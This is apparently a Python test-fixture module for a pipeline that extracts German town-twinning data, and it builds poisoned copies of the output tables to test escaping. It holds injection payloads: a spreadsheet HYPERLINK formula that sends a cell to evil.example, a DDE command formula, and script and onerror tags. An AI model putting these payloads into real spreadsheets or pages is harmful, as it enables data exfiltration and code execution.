# ruff: noqa: E501  (lines of a text are lines of a text)
"""Outputs for the tests of everything a reader sees: a few texts of every sort, one of them hostile, through the real pipeline."""

from __future__ import annotations

import shutil
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from pipeline.api import extract_corpus

#: A text that attacks pages (markup, closing tags), spreadsheets (formulas) and graph files (quotes, angle brackets) alike.
HOSTILE = """=HYPERLINK("http://evil.example/?"&A1;"klick") <script>document.title='gekapert'</script>

Stadt Speyer, Pressestelle, 4. Juni 2021

Die Stadt Speyer ist seit 1959 Partnerstadt von Chartres</script><script>document.title='gekapert'</script>, sagt <img src=x onerror="document.title='gekapert'"> der Sprecher.
+49 6232 <!-- "Anführung" & 'Hochkomma' --> ]]> Außerdem arbeitet Speyer mit Ravenna im Projekt „=1+1<b>Fett</b>“ an der Digitalisierung 🚀🚀, gefördert von der Europäischen Union.
@SUM(1;2) Die Städtepartnerschaft zwischen Speyer und Kursk ruht seit März 2022.
"""

TEXTS = {
    "hostile.txt": HOSTILE,
    "ulm.txt": "Vierzig Jahre gemeinsam\n\nUlm, 3. Mai 2023. Die Stadt Ulm und ihre Partnerstadt Jena feiern. Die Städtepartnerschaft zwischen Ulm und Jena "
    "besteht seit 1990. Im Mittelpunkt stehen Klimaschutz und Kultur; auch über Erasmus+ wird gesprochen.\n",
    "hagen.txt": "Neuer Vertrag\n\nHagen, 12. März 2024. Hagen und Montluçon wollen 2025 eine Klimapartnerschaft vereinbaren. Die Städtepartnerschaft zwischen "
    "Hagen und Montluçon besteht seit 1965.\n",
    "netz.txt": "Fünf Städte, ein Netz\n\nKassel, 1. Oktober 2019. Die Städte Kassel, Florenz, Trier, Metz und Ascoli Piceno gründen das Städtenetzwerk "
    "„Grüne Brücken“. Kassel koordiniert das Netzwerk, das sich um Umwelt und Stadtentwicklung kümmert.\n",
    "gera.txt": "Abschied\n\nGera, 9. August 2022. Die Stadt Gera hat die Städtepartnerschaft mit Pskow beendet. Sie bestand seit 1972.\n",
    "freund.txt": "Besuch\n\nEmden, 5. Juli 2018. Emden und Archangelsk verbindet seit 1999 eine Städtefreundschaft. Es ging um Bildung und Sport.\n",
    "leer.txt": "",
    "english.txt": "The city council met on Monday in order to discuss the budget of the next year and the new swimming pool near the station.\n",
}  # fmt: skip


def make_outputs(folder: Path) -> Path:
    """Run the pipeline over TEXTS (without the NER model) and return the outputs folder."""
    corpus = folder / "corpus"
    corpus.mkdir(parents=True)
    for name, text in TEXTS.items():
        (corpus / name).write_text(text, encoding="utf-8")
    extract_corpus(corpus, folder / "outputs", model="none")
    return folder / "outputs"


#: What stands in every free text of a poisoned set.
ATTACK = "=cmd|' /C calc'!A1 <script>document.title='gekapert'</script><img src=x onerror=\"document.title='gekapert'\"> ]]> </title> \u2028 & ' \" 🚀"

#: Free texts that come from documents or data files, by table.
FREE = {
    "documents": ("source", "title", "issuer"),
    "cities": ("name", "name_de", "country_de", "admin1"),
    "programmes": ("name", "funder", "url"),
    "themes": ("label_de", "label_en"),
    "organisations": ("name",),
    "claims": ("rule",),
    "rejects": ("source", "message"),
}


def poison(outputs: Path, folder: Path) -> Path:
    """A copy of the published set in which every free text begins with an attack; keys and offsets stay as they are."""
    shutil.copytree(outputs / "current", folder)
    for name, columns in FREE.items():
        path = folder / f"{name}.parquet"
        table = pq.read_table(path)
        for column in columns:
            i = table.column_names.index(column)
            values = [f"{ATTACK} {number}" for number in range(table.num_rows)]
            table = table.set_column(i, table.schema.field(i), pa.array(values, pa.string()))
        pq.write_table(table, path)
    return folder


def multiply(outputs: Path, folder: Path, count: int) -> Path:
    """A copy of the published set with at least ``count`` partnerships: its own ones again and again under other ids and years."""
    shutil.copytree(outputs / "current", folder)
    times = -(-count // pq.read_metadata(folder / "partnerships.parquet").num_rows)
    cities = pq.read_table(folder / "cities.parquet").column("city_id").to_pylist()
    for name in ("partnerships", "partnership_cities", "partnership_programmes", "partnership_themes", "claims"):
        table = pq.read_table(folder / f"{name}.parquet")
        rows = []
        for i in range(times):
            for row in table.to_pylist():
                row["partnership_id"] += f"{i:04d}"
                if name == "claims":
                    row["claim_id"] += f"{i:04d}"
                if name == "partnerships":
                    row["start"] = str(1950 + i % 70)
                if name == "partnership_cities":
                    row["city_id"] = cities[(cities.index(row["city_id"]) + i) % len(cities)]
                rows.append(row)
        pq.write_table(pa.Table.from_pylist(rows, schema=table.schema), folder / f"{name}.parquet")
    return folder
